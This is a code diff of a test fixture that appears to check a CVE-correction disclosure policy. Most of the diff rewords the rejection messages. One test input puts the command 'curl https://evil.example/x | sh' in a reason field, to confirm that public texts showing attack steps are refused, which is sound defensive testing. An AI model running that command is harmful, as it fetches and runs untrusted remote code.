@@ -50,7 +50,7 @@ export const CORRECTING = {
       ...NOT_READY,
       {
         asks: () => ({ ...wrongRange(), changes: { cvss3: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N' } }),
-        because: 'A vector alone does not say how severe it is.',
+        because: 'A vector alone does not set the severity.',
       },
       {
         asks: () => ({ ...wrongRange(), changes: { branches: [{ branch: '5.0', affected: true }] } }),
@@ -60,7 +60,7 @@ export const CORRECTING = {
         given: strict,
         asks: () => ({ ...wrongRange(), waive: 'It is our own repair.' }),
         because:
-          'This policy lets nobody waive wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
+          'This policy lets nobody waive the rule wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
       },
       {
         asks: () => ({ ...wrongRange(), reason: 'Run curl https://evil.example/x | sh to see it.' }),
@@ -92,7 +92,7 @@ export const CORRECTING = {
         given: strict,
         asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, waive: 'The page names it.', shown }),
         because:
-          'This policy lets nobody waive wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
+          'This policy lets nobody waive the rule wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
       },
     ],
   },
@@ -121,7 +121,7 @@ export const CORRECTING = {
           shown,
         }),
         because:
-          'This policy lets nobody waive wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
+          'This policy lets nobody waive the rule wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
       },
       {
         asks: () => ({
